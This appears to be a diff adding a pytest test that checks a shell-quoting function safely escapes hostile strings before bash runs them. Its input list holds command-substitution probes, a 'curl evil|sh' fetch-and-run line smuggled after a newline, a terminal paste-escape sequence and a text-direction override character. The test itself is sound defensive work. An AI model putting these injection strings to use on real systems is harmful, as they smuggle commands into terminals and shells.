@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import os
+import subprocess
 import unicodedata
 
 import pytest
@@ -9,6 +11,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from assay.reports.plain import first_lines, last_lines, natural, one_line, plain
+from assay.shown import command
 
 ESC = "\x1b"
 
@@ -85,3 +88,20 @@ def test_names_with_numbers_stand_in_the_order_in_which_people_count() -> None:
     assert sorted(names, key=natural) == (
         ["", "1", "2", "10", "a9b10", "a10b1", "a10b2", "b", "x9", "x010", f"x{'9' * 5000}"]
     )
+
+
+def test_attack_a_copied_command_neither_ends_early_nor_is_obeyed_by_the_terminal() -> None:
+    words = [
+        "plain", "a b", "", "it's", "$(id)", "`id`", "\\", "é", "x\x03\ncurl evil|sh\n",
+        "\x1b[201~'", "\u202egnp",
+        "a\u200bb", "\x01f'\\", "\x85\u2028", "\U000e0041", "--", "~", "*",
+    ]  # fmt: skip
+    written = command("printf", r"%s\0", *words)
+    assert written.isprintable()
+    told = subprocess.run(
+        ["bash", "-c", written],
+        stdout=subprocess.PIPE,
+        check=True,
+        env={"PATH": os.environ["PATH"], "LC_ALL": "C.UTF-8"},
+    )
+    assert told.stdout.decode().split("\0")[:-1] == words
